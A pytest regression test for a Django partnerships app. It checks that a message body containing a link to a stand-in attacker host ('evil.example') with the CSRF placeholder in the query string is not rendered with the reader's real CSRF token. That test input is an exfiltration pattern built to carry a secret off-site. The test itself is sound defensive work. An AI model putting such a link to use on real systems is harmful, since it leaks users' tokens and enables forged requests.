"""Review finding: the CSRF mark is replaced anywhere in the cached main part, also in
text the other side wrote, so a message can carry the reader's CSRF token off-site."""

import uuid

import pytest
from django.test import Client
from django.utils import translation

from partnerships.memoranda.views import CSRF_MARK
from partnerships.services.conversation import message_post


@pytest.mark.usefixtures("english")
def test_a_message_cannot_carry_the_readers_csrf_token_into_a_link(
    memorandum, official_a, official_b
):
    message_post(
        cooperation_request=memorandum.request,
        author=official_b.user,
        body=f"See https://evil.example/x?t={CSRF_MARK}",
        attachment=None,
        submit_key=uuid.uuid4(),
    )
    client = Client(enforce_csrf_checks=True)
    client.force_login(official_a.user)
    with translation.override("en"):
        page = client.get(memorandum.get_absolute_url()).content.decode()
    # What the other side wrote is shown as written, not with this reader's token in it.
    assert f'href="https://evil.example/x?t={CSRF_MARK}"' in page
